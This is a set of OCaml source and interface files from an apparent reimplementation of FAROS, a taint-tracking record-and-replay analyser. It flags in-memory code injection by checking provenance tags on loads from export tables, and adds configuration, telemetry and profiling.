  replay : Faros_replay.Replayer.result;
}

exception Deadline_exceeded
(** Raised out of {!analyze} when the [deadline] budget elapses. *)

val analyze :
  ?config:Config.t ->
  ?max_ticks:int ->
  ?timeslice:int ->
  ?metrics:Faros_obs.Metrics.t ->
  ?trace_sink:Faros_obs.Trace.t ->
  ?telemetry:Telemetry.t ->
  ?deadline:float ->
  ?profile:Faros_obs.Profile.t ->
  ?sink:Faros_obs.Sink.t ->
  ?extra_plugins:
    (Faros_os.Kernel.t -> Faros_plugin.t -> Faros_replay.Plugin.t list) ->
  setup_record:(Faros_os.Kernel.t -> unit) ->
  setup_replay:(Faros_os.Kernel.t -> unit) ->
  boot:(Faros_os.Kernel.t -> unit) ->
  unit ->
  outcome
(** [setup_record] provisions images {e and} live actors/input scripts;
    [setup_replay] provisions only the images (actors are replaced by the
    trace).  [boot] spawns the initial processes and must be identical in
    both phases.

    Observability: [metrics] and [trace_sink] thread into the plugin (and
    from there into the engine, detector and kernel); [telemetry] records
    one row every [config.sample_interval] replay ticks plus a final row
    at the end of the replay.  [profile] (default disabled) wraps the
    phases in top-level [record] / [replay] / [finalize] spans with the
    per-layer spans nested inside; [sink] (default null) is the unified
    JSONL stream whose health gauges land in the registry at finalize.
    With both at their defaults the function is byte-identical in
    behaviour and output to the uninstrumented driver.

    [extra_plugins] attaches more replay plugins next to the FAROS plugin
    (e.g. the attack-graph builder); it runs inside the replayer's plugin
    callback, after the FAROS plugin is constructed but before boot.

    [deadline] is a wall-clock budget in seconds for the whole analysis,
    enforced cooperatively (between phases and every
    [config.sample_interval] replay ticks); exceeding it raises
    {!Deadline_exceeded}.  The campaign driver turns that exception into
    a [Timeout] verdict. *)

val flagged : outcome -> bool
