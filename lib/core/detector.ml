(* The flagging policy: tag confluence (Section IV / V-B).

   On every executed load the detector checks:
   - the *read* location carries an export-table tag (the load is parsing
     linking/loading structures), and
   - the *instruction's own code bytes* carry at least two distinct process
     tags (the code crossed a process boundary) plus an input-source tag —
     netflow for network-borne payloads, or a file tag when the
     configuration also accepts disk-borne payloads (Fig. 10).

   Under a single-bit policy no provenance exists to interrogate, so the
   rule degrades to "tainted code reads the export region" — the ablation
   showing why provenance tags are load-bearing. *)

type t = {
  config : Config.t;
  report : Report.t;
  name_of_asid : int -> string;
  mutable loads_checked : int;
}

let create ~config ~name_of_asid =
  { config; report = Report.create (); name_of_asid; loads_checked = 0 }

(* With interned provenance every clause is an integer compare: the type
   queries read the bitmask cached on the node, and the distinct process
   count is cached at intern time. *)
let matches t (info : Faros_dift.Engine.load_info) =
  Faros_dift.Provenance.has_export info.li_read_prov
  &&
  if t.config.policy.single_bit then
    not (Faros_dift.Provenance.is_empty info.li_instr_prov)
  else
    let has_source =
      Faros_dift.Provenance.has_netflow info.li_instr_prov
      || ((not t.config.require_netflow)
         && Faros_dift.Provenance.has_file info.li_instr_prov)
    in
    Faros_dift.Provenance.distinct_process_count info.li_instr_prov
    >= t.config.min_process_tags
    && has_source

let on_load t ~tick (info : Faros_dift.Engine.load_info) =
  t.loads_checked <- t.loads_checked + 1;
  if matches t info then begin
    let process = t.name_of_asid info.li_asid in
    Report.add t.report
      {
        f_tick = tick;
        f_pc = info.li_pc;
        f_process = process;
        f_instr = info.li_instr;
        f_instr_prov = info.li_instr_prov;
        f_read_vaddr = info.li_read_vaddr;
        f_read_prov = info.li_read_prov;
        f_whitelisted =
          Whitelist.is_whitelisted ~whitelist:t.config.whitelist process;
      }
  end
