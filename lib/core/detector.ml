(* The flagging policy: tag confluence (Section IV / V-B).

   On every executed load the detector checks:
   - the *read* location carries an export-table tag (the load is parsing
     linking/loading structures), and
   - the *instruction's own code bytes* carry at least two distinct process
     tags (the code crossed a process boundary) plus an input-source tag —
     netflow for network-borne payloads, or a file tag when the
     configuration also accepts disk-borne payloads (Fig. 10).

   Under a single-bit policy no provenance exists to interrogate, so the
   rule degrades to "tainted code reads the export region" — the ablation
   showing why provenance tags are load-bearing. *)

type t = {
  config : Config.t;
  report : Report.t;
  name_of_asid : int -> string;
  flag_observers : (Report.flag -> unit) Queue.t;
      (* run on every recorded flag, registration order (the attack-graph
         builder hangs off this) *)
  trace : Faros_obs.Trace.t;
  profile : Faros_obs.Profile.t;
  c_loads_checked : Faros_obs.Metrics.counter;
  c_flags : Faros_obs.Metrics.counter;
  c_suppressed : Faros_obs.Metrics.counter;
  h_instr_prov_len : Faros_obs.Metrics.histogram;
}

let create ?(metrics = Faros_obs.Metrics.create ())
    ?(trace = Faros_obs.Trace.null) ?(profile = Faros_obs.Profile.disabled)
    ~config ~name_of_asid () =
  {
    config;
    report = Report.create ();
    name_of_asid;
    flag_observers = Queue.create ();
    trace;
    profile;
    c_loads_checked = Faros_obs.Metrics.counter metrics "detector.loads_checked";
    c_flags = Faros_obs.Metrics.counter metrics "detector.flags";
    c_suppressed = Faros_obs.Metrics.counter metrics "detector.suppressed";
    h_instr_prov_len = Faros_obs.Metrics.histogram metrics "detector.instr_prov_len";
  }

let loads_checked t = Faros_obs.Metrics.counter_value t.c_loads_checked

let add_flag_observer t f = Queue.add f t.flag_observers

(* With interned provenance every clause is an integer compare: the type
   queries read the bitmask cached on the node, and the distinct process
   count is cached at intern time. *)
let matches t (info : Faros_dift.Engine.load_info) =
  Faros_dift.Provenance.has_export info.li_read_prov
  &&
  if t.config.policy.single_bit then
    not (Faros_dift.Provenance.is_empty info.li_instr_prov)
  else
    let has_source =
      Faros_dift.Provenance.has_netflow info.li_instr_prov
      || ((not t.config.require_netflow)
         && Faros_dift.Provenance.has_file info.li_instr_prov)
    in
    Faros_dift.Provenance.distinct_process_count info.li_instr_prov
    >= t.config.min_process_tags
    && has_source

let check_load t ~tick (info : Faros_dift.Engine.load_info) =
  Faros_obs.Metrics.incr t.c_loads_checked;
  let hit = matches t info in
  (* The confluence-check event fires only for loads that pass the cheap
     export-tag gate — the candidate confluence evaluations — so enabling
     tracing does not buffer one event per executed load. *)
  if
    Faros_obs.Trace.enabled t.trace
    && Faros_dift.Provenance.has_export info.li_read_prov
  then
    Faros_obs.Trace.emit t.trace ~cat:"detector" ~name:"confluence_check"
      ~pid:info.li_asid
      [
        ("pc", Int info.li_pc);
        ("read_vaddr", Int info.li_read_vaddr);
        ("instr_prov_len", Int (Faros_dift.Provenance.length info.li_instr_prov));
        ("hit", Bool hit);
      ];
  if hit then begin
    Faros_obs.Metrics.incr t.c_flags;
    Faros_obs.Metrics.observe t.h_instr_prov_len
      (Faros_dift.Provenance.length info.li_instr_prov);
    let process = t.name_of_asid info.li_asid in
    let whitelisted =
      Whitelist.is_whitelisted ~whitelist:t.config.whitelist process
    in
    if whitelisted then Faros_obs.Metrics.incr t.c_suppressed;
    if Faros_obs.Trace.enabled t.trace then
      Faros_obs.Trace.emit t.trace ~cat:"detector"
        ~name:(if whitelisted then "whitelist_suppression" else "flag")
        ~pid:info.li_asid
        [
          ("process", Str process);
          ("pc", Int info.li_pc);
          ("instr", Str (Faros_vm.Disasm.to_string info.li_instr));
          ("tick", Int tick);
        ];
    let flag =
      {
        Report.f_tick = tick;
        f_pc = info.li_pc;
        f_asid = info.li_asid;
        f_process = process;
        f_instr = info.li_instr;
        f_instr_prov = info.li_instr_prov;
        f_read_vaddr = info.li_read_vaddr;
        f_read_prov = info.li_read_prov;
        f_whitelisted = whitelisted;
      }
    in
    Report.add t.report flag;
    Queue.iter (fun observe -> observe flag) t.flag_observers
  end

(* One [detector.check] span per observed load: its count is the number
   of confluence checks, its self time the whole flagging-rule cost. *)
let on_load t ~tick info =
  let prof = t.profile in
  if Faros_obs.Profile.enabled prof then begin
    Faros_obs.Profile.enter prof "detector.check";
    check_load t ~tick info;
    Faros_obs.Profile.exit prof
  end
  else check_load t ~tick info
