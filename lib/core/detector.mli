(** The flagging policy: tag confluence (Sections IV and V-B).

    On every executed load the detector checks that

    - the {e read} location carries an export-table tag (the load is parsing
      linking/loading structures), and
    - the {e instruction's own code bytes} carry the configured number of
      process tags (the code crossed a process boundary) plus an
      input-source tag — netflow for network-borne payloads, or a file tag
      when the configuration also accepts disk-borne payloads (Fig. 10).

    Under a single-bit policy no provenance exists to interrogate, so the
    rule degrades to "tainted code reads the export region" — the ablation
    showing why provenance tags are load-bearing.

    Observability: the detector keeps its counters
    ([detector.loads_checked], [detector.flags], [detector.suppressed]) and
    the [detector.instr_prov_len] histogram in the registry it was created
    with, and emits [confluence_check] / [flag] / [whitelist_suppression]
    events (category ["detector"]) through its trace sink. *)

type t = {
  config : Config.t;
  report : Report.t;
  name_of_asid : int -> string;
  flag_observers : (Report.flag -> unit) Queue.t;
      (** run on every recorded flag (whitelisted ones included),
          registration order *)
  trace : Faros_obs.Trace.t;
  profile : Faros_obs.Profile.t;
      (** span profiler: {!on_load} runs under [detector.check] *)
  c_loads_checked : Faros_obs.Metrics.counter;
  c_flags : Faros_obs.Metrics.counter;
  c_suppressed : Faros_obs.Metrics.counter;
  h_instr_prov_len : Faros_obs.Metrics.histogram;
      (** provenance length of the flagged instruction's code bytes *)
}

val create :
  ?metrics:Faros_obs.Metrics.t ->
  ?trace:Faros_obs.Trace.t ->
  ?profile:Faros_obs.Profile.t ->
  config:Config.t ->
  name_of_asid:(int -> string) ->
  unit ->
  t

val loads_checked : t -> int
(** Executed loads inspected so far (reads the registry counter). *)

val add_flag_observer : t -> (Report.flag -> unit) -> unit
(** Run [f] on every flag the detector records from now on, whitelisted
    ones included (observers check [f_whitelisted] themselves).  The
    attack-graph builder registers itself here. *)

val matches : t -> Faros_dift.Engine.load_info -> bool
(** Pure policy decision for one load observation. *)

val on_load : t -> tick:int -> Faros_dift.Engine.load_info -> unit
(** Check one load and record a {!Report.flag} when it matches. *)
