(** Tick-sampled analysis telemetry.

    A {!Faros_obs.Series} whose rows capture, at one kernel tick, the
    replay position, engine progress, shadow/tag-store sizes and detector
    verdicts — the quantities behind the paper's memory-overhead and
    detection discussion, observable over time instead of only at the end
    of the replay.

    Feed {!sample} to {!Faros_replay.Replayer.replay}'s [?sample] hook (as
    {!Analysis.analyze} does) to record one row every
    [Config.sample_interval] ticks plus a final row at the end of the
    replay. *)

val columns : string list
(** [tick; syscalls; instrs; tainted_bytes; tainted_regs; shadow_pages;
    interned_provs; netflow_tags; process_tags; file_tags; export_tags;
    flags; suppressed]. *)

type t

val create : ?capacity:int -> unit -> t
(** Ring capacity defaults to 4096 rows. *)

val series : t -> Faros_obs.Series.t

val sample : t -> Faros_plugin.t -> tick:int -> syscalls:int -> unit
(** Record one row of the analysis' current state. *)

val to_csv : t -> string
val to_json : t -> string
