(* Tick-sampled analysis telemetry.

   One row per sample: replay position (tick, syscalls), engine progress,
   shadow/tag-store sizes and detector verdicts — the quantities behind the
   paper's memory-overhead and detection discussion, observable over time
   instead of only at the end of the replay. *)

let columns =
  [
    "tick";
    "syscalls";
    "instrs";
    "tainted_bytes";
    "tainted_regs";
    "shadow_pages";
    "interned_provs";
    "netflow_tags";
    "process_tags";
    "file_tags";
    "export_tags";
    "flags";
    "suppressed";
  ]

type t = { series : Faros_obs.Series.t }

let create ?(capacity = 4096) () =
  { series = Faros_obs.Series.create ~capacity ~columns }

let series t = t.series

let sample t (faros : Faros_plugin.t) ~tick ~syscalls =
  let e = faros.engine in
  let d = faros.detector in
  Faros_obs.Series.sample t.series
    [|
      tick;
      syscalls;
      Faros_dift.Engine.instrs_processed e;
      Faros_dift.Shadow.tainted_bytes e.shadow;
      Faros_dift.Shadow.tainted_regs e.shadow;
      Faros_dift.Shadow.pages e.shadow;
      Faros_dift.Prov_intern.interned_count ();
      Faros_dift.Tag_store.netflow_count e.store;
      Faros_dift.Tag_store.process_count e.store;
      Faros_dift.Tag_store.file_count e.store;
      Faros_dift.Tag_store.export_count e.store;
      Faros_obs.Metrics.counter_value d.c_flags;
      Faros_obs.Metrics.counter_value d.c_suppressed;
    |]

let to_csv t = Faros_obs.Series.to_csv t.series
let to_json t = Faros_obs.Series.to_json t.series
