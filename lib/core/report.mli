(** Analysis reports: flagged instructions with full provenance, rendered in
    the format of Table II. *)

(** One flagged load: the injected instruction, where it executed, and the
    provenance of both its code bytes and the export-table location it
    read. *)
type flag = {
  f_tick : int;  (** global instruction count at flag time *)
  f_pc : int;  (** address of the flagged load (Table II's memory address) *)
  f_asid : int;  (** CR3 of the flagged process, for pid resolution *)
  f_process : string;  (** process executing the injected code *)
  f_instr : Faros_vm.Isa.t;
  f_instr_prov : Faros_dift.Provenance.t;
  f_read_vaddr : int;  (** export-table address the load read *)
  f_read_prov : Faros_dift.Provenance.t;
  f_whitelisted : bool;
}

type t = {
  mutable flags : flag list;  (** newest first *)
  mutable suppressed : int;  (** whitelisted flag count *)
}

val create : unit -> t
val add : t -> flag -> unit

val flags : t -> flag list
(** All flags, oldest first. *)

val effective_flags : t -> flag list
(** Flags not suppressed by the whitelist. *)

val flagged : t -> bool
(** True when at least one effective flag exists: the sample verdict. *)

val flagged_sites : t -> flag list
(** One representative flag per distinct (process, pc) pair. *)

val describe_tag :
  store:Faros_dift.Tag_store.t ->
  name_of_asid:(int -> string) ->
  Faros_dift.Tag.t ->
  string
(** Human rendering of one tag, resolved against the tag store. *)

val render_provenance :
  store:Faros_dift.Tag_store.t ->
  name_of_asid:(int -> string) ->
  Faros_dift.Provenance.t ->
  string
(** Provenance rendered oldest-first with ["->"] separators, as Table II
    prints it (origin first: NetFlow -> inject_client.exe -> notepad.exe). *)

val pp_flag :
  store:Faros_dift.Tag_store.t -> name_of_asid:(int -> string) -> flag Fmt.t

val pp_table :
  store:Faros_dift.Tag_store.t -> name_of_asid:(int -> string) -> t Fmt.t
(** The Table II layout: memory-address column and provenance column. *)

val to_json :
  store:Faros_dift.Tag_store.t -> name_of_asid:(int -> string) -> t -> string
(** A self-contained JSON document (flags with resolved provenance
    strings) an analyst can archive with the sample. *)

val summary : t -> string
