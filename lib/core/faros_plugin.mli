(** The FAROS plugin: wires the DIFT engine and the detector into a kernel's
    execution and event streams — the role the PANDA plugin plays in the
    paper.  Construction taints the export-table pointers (the startup scan
    of loaded modules) and registers the detector as a load observer. *)

type t = {
  engine : Faros_dift.Engine.t;
  batcher : Faros_dift.Block_engine.t option;
      (** present when the configuration asks for basic-block processing *)
  fastpath : Faros_dift.Fastpath.t option;
      (** present when the machine allows the DIFT untainted fast path
          ({!Faros_vm.Machine.dift_fast_enabled} at create time) *)
  detector : Detector.t;
  kernel : Faros_os.Kernel.t;
  config : Config.t;
  metrics : Faros_obs.Metrics.t;
      (** the shared registry: engine, detector and batcher metrics *)
  trace : Faros_obs.Trace.t;
      (** the shared event sink, clocked by the kernel tick *)
  profile : Faros_obs.Profile.t;
      (** the shared span profiler (kernel, machine and DIFT layers) *)
  sink : Faros_obs.Sink.t;
      (** the JSONL stream; {!finalize} publishes its health gauges *)
}

val name_of_asid : Faros_os.Kernel.t -> int -> string
(** Resolve a CR3 back to a process name (OSI-style introspection). *)

val resolve_asid : Faros_os.Kernel.t -> int -> int option
(** Resolve a pid to its CR3. *)

val create :
  ?config:Config.t ->
  ?metrics:Faros_obs.Metrics.t ->
  ?trace:Faros_obs.Trace.t ->
  ?profile:Faros_obs.Profile.t ->
  ?sink:Faros_obs.Sink.t ->
  ?interner:Faros_dift.Prov_intern.store ->
  Faros_os.Kernel.t ->
  t
(** Build the analysis against a freshly constructed kernel, before any
    guest instruction runs (the export-table scan happens here).  The
    registry, trace sink and profiler thread through every layer: the
    sink's clock is pointed at the kernel tick, the kernel's own
    syscall-dispatch events are routed into it, and the profiler is
    shared by kernel, machine and DIFT so one span tree covers the whole
    replay.  [interner] is the provenance store the engine works against
    (default: the calling domain's current store — campaign jobs install
    a fresh one per job). *)

val plugin : t -> Faros_replay.Plugin.t
(** The attachable plugin carrying the execution and event hooks. *)

val finalize : t -> unit
(** Process any trailing partial block and refresh the registry's state
    gauges (including [obs.sink.{events,dropped}]); call when the replay
    is over. *)

val report : t -> Report.t

val pp_report : Format.formatter -> t -> unit
(** Print the report in Table II format, with tag payloads resolved. *)
