(** FAROS analysis configuration.

    The defaults encode the paper's flagging policy: an executed load whose
    code bytes carry at least one process tag and an input-source tag,
    reading export-table-tagged memory, is an in-memory injection.

    [min_process_tags] is 1 (not 2) because the reverse_tcp_dns experiment
    (Fig. 8) injects into the same process that downloaded the payload, so
    its provenance carries a single process tag — and the paper still flags
    it.  Cross-process attacks naturally accumulate two or more.

    [require_netflow] selects the strict network-borne policy; the default
    additionally accepts file-borne payloads, which is what flags the
    process-hollowing sample of Fig. 10 (payload shipped inside the
    dropper's own image). *)

type t = {
  policy : Faros_dift.Policy.t;  (** propagation policy *)
  whitelist : string list;  (** process names whose flags are suppressed *)
  min_process_tags : int;
  require_netflow : bool;
  block_processing : bool;
      (** process instructions one basic block at a time, as the paper's
          PANDA plugin does (Section V-A); observationally equivalent *)
  sample_interval : int;
      (** kernel ticks between telemetry samples when a series is
          recorded (default 64) *)
}

val default : t

val strict_netflow : t
(** [default] with [require_netflow = true]. *)

val with_policy : Faros_dift.Policy.t -> t -> t
val with_whitelist : string list -> t -> t
val with_block_processing : t -> t

val with_sample_interval : int -> t -> t
(** Raises [Invalid_argument] on a non-positive interval. *)
