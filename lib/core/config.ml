(* FAROS analysis configuration.

   The defaults encode the paper's flagging policy: an executed load whose
   code bytes carry at least two distinct process tags and an input-source
   tag, reading export-table-tagged memory, is an in-memory injection.
   [require_netflow] selects the strict network-borne policy; leaving it
   off additionally accepts file-borne payloads (the process-hollowing
   sample of Fig. 10, whose payload ships inside the dropper's image). *)

type t = {
  policy : Faros_dift.Policy.t;
  whitelist : string list;  (* process names whose flags are suppressed *)
  min_process_tags : int;
  require_netflow : bool;
  block_processing : bool;
      (* process instructions one basic block at a time, as the paper's
         PANDA plugin does (Section V-A); equivalent, per the test suite *)
  sample_interval : int;
      (* kernel ticks between telemetry samples when a series is recorded *)
}

(* min_process_tags is 1, not 2: the reverse_tcp_dns experiment (Fig. 8)
   injects into the *same* process that downloaded the payload, so its
   provenance carries a single process tag — and the paper still flags it.
   Cross-process attacks naturally accumulate two or more. *)
let default =
  {
    policy = Faros_dift.Policy.faros_default;
    whitelist = [];
    min_process_tags = 1;
    require_netflow = false;
    block_processing = false;
    sample_interval = 64;
  }

let strict_netflow = { default with require_netflow = true }

let with_policy policy t = { t with policy }
let with_whitelist whitelist t = { t with whitelist }
let with_block_processing t = { t with block_processing = true }

let with_sample_interval sample_interval t =
  if sample_interval <= 0 then invalid_arg "Config.with_sample_interval";
  { t with sample_interval }
