(* The FAROS plugin: wires the DIFT engine and the detector into a kernel's
   execution and event streams — the role the PANDA plugin plays in the
   paper.  Construction taints the export-table pointers (the startup scan
   of loaded modules) and registers the detector as a load observer. *)

type t = {
  engine : Faros_dift.Engine.t;
  batcher : Faros_dift.Block_engine.t option;  (* Some when block_processing *)
  fastpath : Faros_dift.Fastpath.t option;  (* Some when the machine allows it *)
  detector : Detector.t;
  kernel : Faros_os.Kernel.t;
  config : Config.t;
  metrics : Faros_obs.Metrics.t;
  trace : Faros_obs.Trace.t;
  profile : Faros_obs.Profile.t;
  sink : Faros_obs.Sink.t;  (* JSONL stream; gauged at finalize *)
}

let name_of_asid (kernel : Faros_os.Kernel.t) asid =
  match Faros_os.Kstate.proc_by_asid kernel asid with
  | Some p -> p.Faros_os.Process.proc_name
  | None -> Faros_vm.Mmu.space_name kernel.machine.mmu asid

let resolve_asid (kernel : Faros_os.Kernel.t) pid =
  Option.map Faros_os.Process.asid (Faros_os.Kstate.proc kernel pid)

let create ?(config = Config.default) ?(metrics = Faros_obs.Metrics.create ())
    ?(trace = Faros_obs.Trace.null) ?(profile = Faros_obs.Profile.disabled)
    ?(sink = Faros_obs.Sink.null) ?interner (kernel : Faros_os.Kernel.t) =
  (* One registry and one sink serve every layer; the kernel tick is the
     trace's time base, and the kernel itself emits syscall events.  The
     profiler is shared by the kernel, the machine and every DIFT layer,
     so one tree covers the whole replay. *)
  Faros_obs.Trace.set_clock trace (fun () -> Faros_os.Kernel.tick kernel);
  Faros_os.Kstate.set_trace kernel trace;
  Faros_os.Kstate.set_profile kernel profile;
  let engine =
    Faros_dift.Engine.create ~policy:config.policy ~metrics ~trace ~profile
      ?interner ()
  in
  let batcher =
    if config.block_processing then Some (Faros_dift.Block_engine.of_engine engine)
    else None
  in
  (* The untainted fast path only exists over cached blocks; the machine
     knob ({!Faros_vm.Machine.dift_fast_enabled}) is read once here, so a
     per-replay override must land before the plugins attach. *)
  let fastpath =
    if Faros_vm.Machine.dift_fast_enabled kernel.machine then
      Some (Faros_dift.Fastpath.create ?batcher ~machine:kernel.machine engine)
    else None
  in
  let detector =
    Detector.create ~metrics ~trace ~profile ~config
      ~name_of_asid:(name_of_asid kernel) ()
  in
  Faros_dift.Engine.taint_export_pointers engine
    kernel.exports.Faros_os.Export_table.pointers_by_name;
  Faros_dift.Engine.add_load_observer engine (fun info ->
      Detector.on_load detector ~tick:(Faros_os.Kernel.tick kernel) info);
  { engine; batcher; fastpath; detector; kernel; config; metrics; trace;
    profile; sink }

(* The fast path wraps whichever exec consumer the config selected; OS
   events keep their direct route (they insert taint and must flush the
   batcher regardless of what execution skipped). *)
let plugin t =
  let on_exec =
    match (t.fastpath, t.batcher) with
    | Some fp, _ -> fun cpu eff -> Faros_dift.Fastpath.on_exec fp cpu eff
    | None, Some b -> fun cpu eff -> Faros_dift.Block_engine.on_exec b cpu eff
    | None, None -> fun cpu eff -> Faros_dift.Engine.on_exec t.engine cpu eff
  in
  match t.batcher with
  | None ->
    Faros_replay.Plugin.make "faros" ~on_exec
      ~on_os_event:(fun ev ->
        Faros_dift.Engine.on_os_event t.engine ~resolve_asid:(resolve_asid t.kernel)
          ev)
  | Some b ->
    Faros_replay.Plugin.make "faros-block" ~on_exec
      ~on_os_event:(fun ev ->
        Faros_dift.Block_engine.on_os_event b ~resolve_asid:(resolve_asid t.kernel)
          ev)

(* Process any trailing partial block; call when the replay is over. *)
let finalize t =
  (match t.batcher with Some b -> Faros_dift.Block_engine.finish b | None -> ());
  Faros_dift.Engine.refresh_metrics t.engine;
  (* Execution-cache telemetry: deterministic for a given scenario and
     cache setting, so `faros stats` goldens can pin it. *)
  let machine = t.kernel.Faros_os.Kstate.machine in
  let tb = Faros_vm.Machine.tb_stats machine in
  let tlb_hits, tlb_misses = Faros_vm.Machine.tlb_stats machine in
  let set name v = Faros_obs.Metrics.set (Faros_obs.Metrics.gauge t.metrics name) v in
  set "vm.tbcache.hits" tb.Faros_vm.Tb_cache.st_hits;
  set "vm.tbcache.misses" tb.Faros_vm.Tb_cache.st_misses;
  set "vm.tbcache.invalidations" tb.Faros_vm.Tb_cache.st_invalidations;
  set "vm.tbcache.blocks" tb.Faros_vm.Tb_cache.st_blocks;
  set "vm.tlb.hits" tlb_hits;
  set "vm.tlb.misses" tlb_misses;
  (* Fast-path telemetry is published even when the path is off (zeros),
     so dashboards and goldens see a stable gauge set. *)
  let fp_hits, fp_misses =
    match t.fastpath with
    | Some fp -> Faros_dift.Fastpath.stats fp
    | None -> (0, 0)
  in
  set "dift.fastpath.hits" fp_hits;
  set "dift.fastpath.misses" fp_misses;
  set "dift.fastpath.blocks_summarized" tb.Faros_vm.Tb_cache.st_summarized;
  (* Sink health is part of the stable gauge set too: zeros when the
     JSONL stream is off, and an explicit (never silent) drop count when
     it is on. *)
  set "obs.sink.events" (Faros_obs.Sink.events t.sink);
  set "obs.sink.dropped" (Faros_obs.Sink.dropped t.sink)

let report t = t.detector.report

let pp_report ppf t =
  Report.pp_table ~store:t.engine.store ~name_of_asid:(name_of_asid t.kernel) ppf
    t.detector.report
