(* Top-level analysis driver: the analyst workflow of Section V-C.

   1. Record: run the sample live (actors answering on the network, the
      user workload typing) and capture the non-deterministic inputs.
   2. Replay under FAROS: rebuild the system, feed the trace, run the DIFT
      plugin, and report any in-memory injections with full provenance. *)

type outcome = {
  faros : Faros_plugin.t;
  report : Report.t;
  trace : Faros_replay.Trace.t;
  record_ticks : int;
  replay : Faros_replay.Replayer.result;
}

exception Deadline_exceeded

(* [setup_record] provisions images *and* live actors/input scripts;
   [setup_replay] provisions only the images (actors are replaced by the
   trace).  [boot] spawns the initial processes and must be identical in
   both phases.

   [deadline] is a wall-clock budget in seconds for the whole analysis.
   It is enforced cooperatively: checked once between the record and
   replay phases, and then every [config.sample_interval] replay ticks
   from the replayer's sampling hook — the record phase itself is bounded
   by [max_ticks], the deterministic tick budget. *)
(* [extra_plugins] lets callers attach more replay plugins next to the
   FAROS plugin (the attack-graph builder rides along this way); it runs
   inside the replayer's plugin callback, after the FAROS plugin is
   constructed but before boot. *)
(* [profile] and [sink] are the whole-pipeline observability hooks: the
   profiler wraps the three phases ([record] / [replay] / [finalize]) as
   top-level spans with the per-layer spans nested inside, and the sink
   is handed to the plugin so its health lands in the registry.  Both
   default to their disabled constants, in which case this function is
   byte-identical in behaviour and output to the uninstrumented driver
   (pinned by the overhead regression test). *)
let analyze ?(config = Config.default) ?max_ticks ?timeslice ?metrics
    ?(trace_sink = Faros_obs.Trace.null) ?telemetry ?deadline
    ?(profile = Faros_obs.Profile.disabled) ?(sink = Faros_obs.Sink.null)
    ?(extra_plugins = fun _kernel _faros -> []) ~setup_record ~setup_replay
    ~boot () =
  let check_deadline =
    match deadline with
    | None -> Fun.id
    | Some seconds ->
      let limit = Unix.gettimeofday () +. seconds in
      fun () -> if Unix.gettimeofday () > limit then raise Deadline_exceeded
  in
  let _record_kernel, trace =
    Faros_obs.Profile.with_span profile "record" (fun () ->
        Faros_replay.Recorder.record ?max_ticks ?timeslice ~profile
          ~setup:setup_record ~boot ())
  in
  check_deadline ();
  let faros_ref = ref None in
  let sample =
    match (telemetry, deadline) with
    | None, None -> None
    | _ ->
      Some
        ( config.Config.sample_interval,
          fun ~tick ~syscalls ->
            check_deadline ();
            match (telemetry, !faros_ref) with
            | Some t, Some faros -> Telemetry.sample t faros ~tick ~syscalls
            | _ -> () )
  in
  let replay =
    Faros_obs.Profile.with_span profile "replay" (fun () ->
        Faros_replay.Replayer.replay ?max_ticks ?timeslice ?sample ~profile
          ~plugins:(fun kernel ->
            let faros =
              Faros_plugin.create ~config ?metrics ~trace:trace_sink ~profile
                ~sink kernel
            in
            faros_ref := Some faros;
            Faros_plugin.plugin faros :: extra_plugins kernel faros)
          ~setup:setup_replay ~boot trace)
  in
  match !faros_ref with
  | None -> assert false (* the plugin constructor always runs *)
  | Some faros ->
    Faros_obs.Profile.with_span profile "finalize" (fun () ->
        Faros_plugin.finalize faros);
    {
      faros;
      report = Faros_plugin.report faros;
      trace;
      record_ticks = trace.final_tick;
      replay;
    }

let flagged outcome = Report.flagged outcome.report
