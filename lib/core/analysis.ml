(* Top-level analysis driver: the analyst workflow of Section V-C.

   1. Record: run the sample live (actors answering on the network, the
      user workload typing) and capture the non-deterministic inputs.
   2. Replay under FAROS: rebuild the system, feed the trace, run the DIFT
      plugin, and report any in-memory injections with full provenance. *)

type outcome = {
  faros : Faros_plugin.t;
  report : Report.t;
  trace : Faros_replay.Trace.t;
  record_ticks : int;
  replay : Faros_replay.Replayer.result;
}

(* [setup_record] provisions images *and* live actors/input scripts;
   [setup_replay] provisions only the images (actors are replaced by the
   trace).  [boot] spawns the initial processes and must be identical in
   both phases. *)
let analyze ?(config = Config.default) ?max_ticks ?timeslice ?metrics
    ?(trace_sink = Faros_obs.Trace.null) ?telemetry ~setup_record ~setup_replay
    ~boot () =
  let _record_kernel, trace =
    Faros_replay.Recorder.record ?max_ticks ?timeslice ~setup:setup_record ~boot ()
  in
  let faros_ref = ref None in
  let sample =
    match telemetry with
    | None -> None
    | Some t ->
      Some
        ( config.Config.sample_interval,
          fun ~tick ~syscalls ->
            match !faros_ref with
            | Some faros -> Telemetry.sample t faros ~tick ~syscalls
            | None -> () )
  in
  let replay =
    Faros_replay.Replayer.replay ?max_ticks ?timeslice ?sample
      ~plugins:(fun kernel ->
        let faros = Faros_plugin.create ~config ?metrics ~trace:trace_sink kernel in
        faros_ref := Some faros;
        [ Faros_plugin.plugin faros ])
      ~setup:setup_replay ~boot trace
  in
  match !faros_ref with
  | None -> assert false (* the plugin constructor always runs *)
  | Some faros ->
    Faros_plugin.finalize faros;
    {
      faros;
      report = Faros_plugin.report faros;
      trace;
      record_ticks = trace.final_tick;
      replay;
    }

let flagged outcome = Report.flagged outcome.report
