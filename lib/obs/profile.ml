(* Hierarchical span profiler.

   Nestable named spans over a pluggable monotonic clock, aggregated into
   a call tree: each distinct (parent chain, name) pair is one node
   carrying call count, inclusive wall time, and minor/major GC
   allocation-word deltas.  Self time/allocation are derived at render
   time (inclusive minus the sum of the children), so the hot path never
   walks the tree.

   The disabled profiler is a constant constructor, mirroring the null
   trace sink: every instrumentation point costs one branch and allocates
   nothing, which is what lets the per-instruction sites (machine step,
   propagation, fast-path pre-check) stay in the replay hot path
   unconditionally.  The enabled hot path is one small-hashtable lookup,
   one clock read and one [Gc.counters] read per enter/exit.

   The clock is injectable — tests use a fake integer clock for fully
   deterministic span tables; the default reads wall time in
   nanoseconds.  GC deltas include the profiler's own frame allocation
   (a few words per span), which is measurement noise of the same order
   as the timer overhead and is documented rather than hidden.

   Trees from different workers merge commutatively ({!merge}), which is
   how a campaign folds per-job profiles into one whole-fleet hotspot
   table. *)

type node = {
  pn_name : string;
  pn_depth : int;
  mutable pn_count : int;
  mutable pn_total_ns : int;
  mutable pn_minor_words : int;
  mutable pn_major_words : int;
  mutable pn_order : node list;  (* children, first-entered order, reversed *)
  pn_children : (string, node) Hashtbl.t;
}

let mk_node name depth =
  {
    pn_name = name;
    pn_depth = depth;
    pn_count = 0;
    pn_total_ns = 0;
    pn_minor_words = 0;
    pn_major_words = 0;
    pn_order = [];
